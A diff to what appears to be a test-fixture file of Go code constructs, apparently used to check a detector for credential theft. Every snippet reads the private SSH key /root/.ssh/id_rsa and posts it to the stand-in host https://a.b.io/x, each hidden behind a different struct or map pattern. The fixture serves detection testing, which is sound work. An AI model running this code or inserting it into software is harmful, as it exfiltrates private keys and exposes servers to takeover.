@@ -172,5 +172,17 @@ export const GO: Constructs = {
       'embedded',
       'package main\nimport ("net/http";"os";"strings";"bytes";"io";"encoding/json";"os/exec";"path/filepath";"fmt";"bufio";"encoding/base64")\nconst U="https://a.b.io/x"\nconst K="/root/.ssh/id_rsa"\ntype B struct { T []byte }\nfunc (b *B) send() { http.Post(U,"x",bytes.NewReader(b.T)) }\ntype A struct { B }\nfunc main() {\na:=A{}\na.T,_=os.ReadFile(K)\na.send()\n}\n',
     ],
+    [
+      'struct without names of fields',
+      'package main\nimport ("net/http";"os";"bytes")\nconst K="/root/.ssh/id_rsa"\ntype I struct { p string }\nfunc (i I) load() []byte { b,_:=os.ReadFile(i.p); return b }\nfunc (i I) ship() { http.Post("https://a.b.io/x","x",bytes.NewReader(i.load())) }\nfunc main() {\ni:=I{K}\ni.ship()\n}\n',
+    ],
+    [
+      'struct that a function makes',
+      'package main\nimport ("net/http";"os";"bytes")\nconst K="/root/.ssh/id_rsa"\ntype Up struct { url string; c http.Client }\nfunc NewUp() *Up { return &Up{"https://a.b.io/x", http.Client{}} }\nfunc (u *Up) Put(b []byte) { u.c.Post(u.url, "x", bytes.NewReader(b)) }\nfunc main() {\nb,_:=os.ReadFile(K)\nNewUp().Put(b)\n}\n',
+    ],
+    [
+      'mapping in a struct',
+      'package main\nimport ("net/http";"os";"bytes")\nconst K="/root/.ssh/id_rsa"\ntype Inv struct { Facts map[string]string }\nfunc Load() *Inv {\ninv := &Inv{Facts: map[string]string{}}\nb,_:=os.ReadFile(K)\ninv.Facts["x"] = string(b)\nreturn inv\n}\nfunc main() {\ninv := Load()\nhttp.Post("https://a.b.io/x","x",bytes.NewReader([]byte(inv.Facts["x"])))\n}\n',
+    ],
   ],
 };
